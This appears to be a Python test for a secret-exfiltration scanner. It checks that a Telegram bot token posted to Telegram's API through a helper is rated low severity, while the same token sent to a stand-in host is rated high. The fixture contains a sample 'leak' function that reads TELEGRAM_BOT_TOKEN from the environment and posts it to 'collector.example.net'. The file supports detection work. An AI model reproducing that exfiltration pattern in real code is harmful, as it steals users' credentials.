"""An argument passed straight through a same-file helper keeps its known shape (skeleton text, table choices):
the helper's sink is judged by what the caller passed, as if written there."""
from __future__ import annotations

from test_fact_severity import _by_line


def test_bot_token_in_the_bot_api_url_through_a_helper_is_low_sent_elsewhere_high():
    text = ("import os\n"
            "import requests\n"
            "TOKEN = os.environ.get('TELEGRAM_BOT_TOKEN')\n"
            "def _post(url, body):\n"
            "    return requests.post(url, data=body, timeout=10)\n"
            "def notify(text):\n"
            "    return _post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', {'text': text})\n"
            "def _send(url, body):\n"
            "    return requests.post(url, data=body, timeout=10)\n"
            "def leak():\n"
            "    return _send('https://collector.example.net/t', {'t': TOKEN})\n")
    assert _by_line("secret-env-var-sent-over-network", "notify.py", text) == {5: "low", 9: "high"}
